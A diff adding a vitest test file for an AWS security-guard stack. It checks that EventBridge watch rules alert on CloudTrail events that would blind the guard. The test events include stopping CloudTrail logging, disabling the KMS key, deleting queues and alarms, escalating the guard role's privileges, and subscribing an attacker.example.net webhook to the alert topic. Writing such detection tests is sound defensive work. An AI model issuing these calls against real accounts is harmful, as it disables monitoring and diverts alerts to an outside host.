@@ -1,0 +1,253 @@
+import { describe, expect, it } from 'vitest';
+import { matchesPattern } from '../../functions/core/event-pattern-matcher.js';
+import { ACCOUNT, REGION, resolve, type Template } from '../support/cfn-resolve.js';
+import { cloudTrailEvent, kmsEvent } from '../support/cloudtrail.js';
+import { synthGuard } from '../support/stack.js';
+
+/**
+ * Every single call that could blind the guard, as CloudTrail records it, routed through the
+ * synthesized stack's rules with the EventBridge matcher: some watch rule other than the one the
+ * call changes must take it, and deliver it to the topic.
+ */
+const { template } = synthGuard({ notifyEmails: 'oncall@example.com' });
+const json = template.toJSON() as Template;
+type Resource = { Type: string; Properties: Record<string, unknown> };
+const all = Object.entries(json.Resources ?? {}) as [string, Resource][];
+const ofType = (type: string) => all.filter(([, r]) => r.Type === type);
+const str = (value: unknown) => resolve(value, json) as string;
+
+const topicId = ofType('AWS::SNS::Topic')[0]?.[0] ?? '';
+const topicArn = str({ Ref: topicId });
+const keyLogicalId = ofType('AWS::KMS::Key')[0]?.[0] ?? '';
+const keyId = str({ Ref: keyLogicalId });
+const keyArn = str({ 'Fn::GetAtt': [keyLogicalId, 'Arn'] });
+const [fnId] = ofType('AWS::Lambda::Function').find(([, r]) =>
+  String(r.Properties.Description).includes('keeps'),
+) ?? [''];
+const functionName = str({ Ref: fnId });
+const functionArn = `arn:aws:lambda:${REGION}:${ACCOUNT}:function:${functionName}`;
+const alarmNames = ofType('AWS::CloudWatch::Alarm').map(([, r]) => str(r.Properties.AlarmName));
+const rules = ofType('AWS::Events::Rule').map(([, r]) => ({
+  name: str(r.Properties.Name),
+  pattern: resolve(r.Properties.EventPattern, json) as Record<string, unknown>,
+  targets: (r.Properties.Targets as { Arn: unknown }[]).map((t) => str(t.Arn)),
+  enabled: r.Properties.State !== 'DISABLED',
+}));
+const watchRules = rules.filter((r) => r.name.includes('-Watch'));
+const subscriptionArn = `${topicArn}:8a21d249-4329-4871-acc6-7be709c6ea7f`;
+
+/** The watch rules that would alert on `event`, leaving out `changed` (the rule the call changes). */
+const alertingRules = (event: unknown, changed?: string) =>
+  watchRules.filter(
+    (r) => r.name !== changed && r.targets.includes(topicArn) && matchesPattern(r.pattern, event),
+  );
+
+describe('self-protection sees every call that could blind the guard', () => {
+  const kmsCalls: [string, ReturnType<typeof kmsEvent>][] = [
+    ['DisableKey (by key id)', kmsEvent('DisableKey', keyArn, { keyId })],
+    [
+      'ScheduleKeyDeletion (by key ARN)',
+      kmsEvent('ScheduleKeyDeletion', keyArn, { keyId: keyArn, pendingWindowInDays: 7 }),
+    ],
+    [
+      'PutKeyPolicy (a policy without the service grants)',
+      kmsEvent('PutKeyPolicy', keyArn, {
+        keyId,
+        policyName: 'default',
+        policy: '{"Version":"2012-10-17","Statement":[]}',
+        bypassPolicyLockoutSafetyCheck: false,
+      }),
+    ],
+    [
+      'CreateGrant on the key',
+      kmsEvent('CreateGrant', keyArn, {
+        keyId: keyArn,
+        granteePrincipal: `arn:aws:iam::${ACCOUNT}:role/Admin`,
+        operations: ['Decrypt', 'RetireGrant'],
+      }),
+    ],
+  ];
+  const snsCalls: [string, ReturnType<typeof cloudTrailEvent>][] = [
+    [
+      'SetSubscriptionAttributes (a filter policy that drops every message)',
+      cloudTrailEvent('sns', 'SetSubscriptionAttributes', {
+        subscriptionArn,
+        attributeName: 'FilterPolicy',
+        attributeValue: '{"never":["matches"]}',
+      }),
+    ],
+    [
+      'Subscribe (another endpoint on the topic)',
+      cloudTrailEvent('sns', 'Subscribe', {
+        topicArn,
+        protocol: 'https',
+        endpoint: 'https://attacker.example.net/hook',
+        returnSubscriptionArn: true,
+      }),
+    ],
+    [
+      'PutDataProtectionPolicy (deny the messages)',
+      cloudTrailEvent('sns', 'PutDataProtectionPolicy', {
+        resourceArn: topicArn,
+        dataProtectionPolicy: '{}',
+      }),
+    ],
+  ];
+  const lambdaCalls: [string, ReturnType<typeof cloudTrailEvent>][] = [
+    [
+      'UpdateFunctionConfiguration by full ARN',
+      cloudTrailEvent('lambda', 'UpdateFunctionConfiguration20150331v2', {
+        functionName: functionArn,
+        timeout: 1,
+      }),
+    ],
+    [
+      'PutFunctionConcurrency 0 by partial ARN',
+      cloudTrailEvent('lambda', 'PutFunctionConcurrency20171031', {
+        functionName: `${ACCOUNT}:function:${functionName}`,
+        reservedConcurrentExecutions: 0,
+      }),
+    ],
+    [
+      'RemovePermission by qualified ARN',
+      cloudTrailEvent('lambda', 'RemovePermission20150331v2', {
+        functionName: `${functionArn}:$LATEST`,
+        statementId: 'AllowEventRule',
+      }),
+    ],
+    [
+      'RemovePermission by name:qualifier',
+      cloudTrailEvent('lambda', 'RemovePermission20150331v2', {
+        functionName: `${functionName}:$LATEST`,
+        statementId: 'AllowEventRule',
+      }),
+    ],
+    [
+      'CreateEventSourceMapping (feed the guard events of your choosing)',
+      cloudTrailEvent('lambda', 'CreateEventSourceMapping20150331', {
+        functionName,
+        eventSourceArn: `arn:aws:sqs:${REGION}:${ACCOUNT}:crafted`,
+      }),
+    ],
+  ];
+  const alarmCalls: [string, ReturnType<typeof cloudTrailEvent>][] = [
+    [
+      'DeleteAlarms',
+      cloudTrailEvent('monitoring', 'DeleteAlarms', { alarmNames: ['unrelated', alarmNames[0]] }),
+    ],
+    ['DisableAlarmActions', cloudTrailEvent('monitoring', 'DisableAlarmActions', { alarmNames })],
+    [
+      'PutMetricAlarm (actions removed)',
+      cloudTrailEvent('monitoring', 'PutMetricAlarm', { alarmName: alarmNames[0], alarmActions: [] }),
+    ],
+  ];
+  const queueUrls = ofType('AWS::SQS::Queue').map(
+    ([id]) => `https://sqs.${REGION}.amazonaws.com/${ACCOUNT}/${id}`,
+  );
+  const queueCalls: [string, ReturnType<typeof cloudTrailEvent>][] = queueUrls.flatMap((queueUrl) => [
+    [`PurgeQueue ${queueUrl.split('/').pop()}`, cloudTrailEvent('sqs', 'PurgeQueue', { queueUrl })] as [
+      string,
+      ReturnType<typeof cloudTrailEvent>,
+    ],
+    [`DeleteQueue ${queueUrl.split('/').pop()}`, cloudTrailEvent('sqs', 'DeleteQueue', { queueUrl })] as [
+      string,
+      ReturnType<typeof cloudTrailEvent>,
+    ],
+  ]);
+  const trailCalls: [string, ReturnType<typeof cloudTrailEvent>][] = [
+    [
+      'StopLogging',
+      cloudTrailEvent('cloudtrail', 'StopLogging', {
+        name: `arn:aws:cloudtrail:${REGION}:${ACCOUNT}:trail/main`,
+      }),
+    ],
+    [
+      'PutEventSelectors (management events off)',
+      cloudTrailEvent('cloudtrail', 'PutEventSelectors', {
+        trailName: 'main',
+        eventSelectors: [{ readWriteType: 'ReadOnly', includeManagementEvents: true }],
+      }),
+    ],
+  ];
+
+  it('has five alarms and a function, topic and key to watch', () => {
+    expect(alarmNames).toHaveLength(5);
+    expect(functionName).not.toBe('');
+    expect(keyArn).toMatch(/^arn:aws:kms:/);
+  });
+
+  it.each([...kmsCalls, ...snsCalls, ...lambdaCalls, ...alarmCalls, ...queueCalls, ...trailCalls])(
+    '%s',
+    (_, event) => {
+      expect(alertingRules(event).map((r) => r.name)).not.toEqual([]);
+    },
+  );
+
+  it.each(watchRules.map((r) => r.name))(
+    'disabling, deleting or emptying watch rule %s is seen by another rule',
+    (name) => {
+      const calls = [
+        cloudTrailEvent('events', 'DisableRule', { name }),
+        cloudTrailEvent('events', 'DeleteRule', { name, force: false }),
+        cloudTrailEvent('events', 'PutRule', { name, eventPattern: '{"source":["none"]}', state: 'ENABLED' }),
+        cloudTrailEvent('events', 'RemoveTargets', { rule: name, ids: ['Target0'], force: false }),
+      ];
+      for (const call of calls) expect(alertingRules(call, name).map((r) => r.name)).not.toEqual([]);
+    },
+  );
+
+  const guardRole = ofType('AWS::IAM::Role').find(
+    ([, r]) => r.Properties.RoleName === 'SupportRoleGuardFunction',
+  );
+  const guardRoleArn = str({ 'Fn::GetAtt': [guardRole?.[0], 'Arn'] });
+  it.each([
+    ['UpdateAssumeRolePolicy', { policyDocument: '{"Statement":[]}' }],
+    ['AttachRolePolicy', { policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }],
+    ['PutRolePolicy', { policyName: 'x', policyDocument: '{}' }],
+    ['DetachRolePolicy', { policyArn: 'arn:aws:iam::aws:policy/x' }],
+    ['DeleteRolePolicy', { policyName: 'x' }],
+    ['PutRolePermissionsBoundary', { permissionsBoundary: 'arn:aws:iam::aws:policy/ReadOnlyAccess' }],
+    ['DeleteRole', {}],
+  ])("%s on the guard's own role", (eventName, params) => {
+    const event = cloudTrailEvent('iam', eventName, { roleName: 'supportroleguardfunction', ...params });
+    expect(alertingRules(event).map((r) => r.name)).toEqual(['SupportRoleGuard-WatchGuardRoleChanges']);
+  });
+
+  it("a function created or re-pointed to run as the guard's role, but not the guard's own", () => {
+    expect(guardRoleArn).toBe(`arn:aws:iam::${ACCOUNT}:role/support-role-guard/SupportRoleGuardFunction`);
+    const borrowed = [
+      cloudTrailEvent('lambda', 'CreateFunction20150331', {
+        functionName: 'innocent',
+        role: guardRoleArn,
+        runtime: 'nodejs22.x',
+      }),
+      cloudTrailEvent('lambda', 'UpdateFunctionConfiguration20150331v2', {
+        functionName: 'other',
+        role: guardRoleArn,
+      }),
+    ];
+    for (const event of borrowed)
+      expect(alertingRules(event).map((r) => r.name)).toEqual(['SupportRoleGuard-WatchGuardRolePassed']);
+    const own = cloudTrailEvent('lambda', 'CreateFunction20150331', { functionName, role: guardRoleArn });
+    expect(alertingRules(own)).toEqual([]);
+  });
+
+  it('stays quiet on other resources and on failed calls', () => {
+    const quiet = [
+      kmsEvent('DisableKey', `arn:aws:kms:${REGION}:${ACCOUNT}:key/other`, { keyId: 'other' }),
+      cloudTrailEvent('lambda', 'UpdateFunctionConfiguration20150331v2', {
+        functionName: `${functionName}Other`,
+      }),
+      cloudTrailEvent('lambda', 'DeleteFunction20150331', {
+        functionName: `arn:aws:lambda:${REGION}:${ACCOUNT}:function:x${functionName}`,
+      }),
+      cloudTrailEvent('sns', 'Subscribe', { topicArn: `${topicArn}-other`, protocol: 'email' }),
+      cloudTrailEvent('monitoring', 'DeleteAlarms', { alarmNames: ['unrelated'] }),
+      {
+        ...kmsEvent('DisableKey', keyArn, { keyId }),
+        detail: { ...kmsEvent('DisableKey', keyArn, { keyId }).detail, errorCode: 'AccessDeniedException' },
+      },
+    ];
+    for (const event of quiet) expect(alertingRules(event)).toEqual([]);
+  });
+});
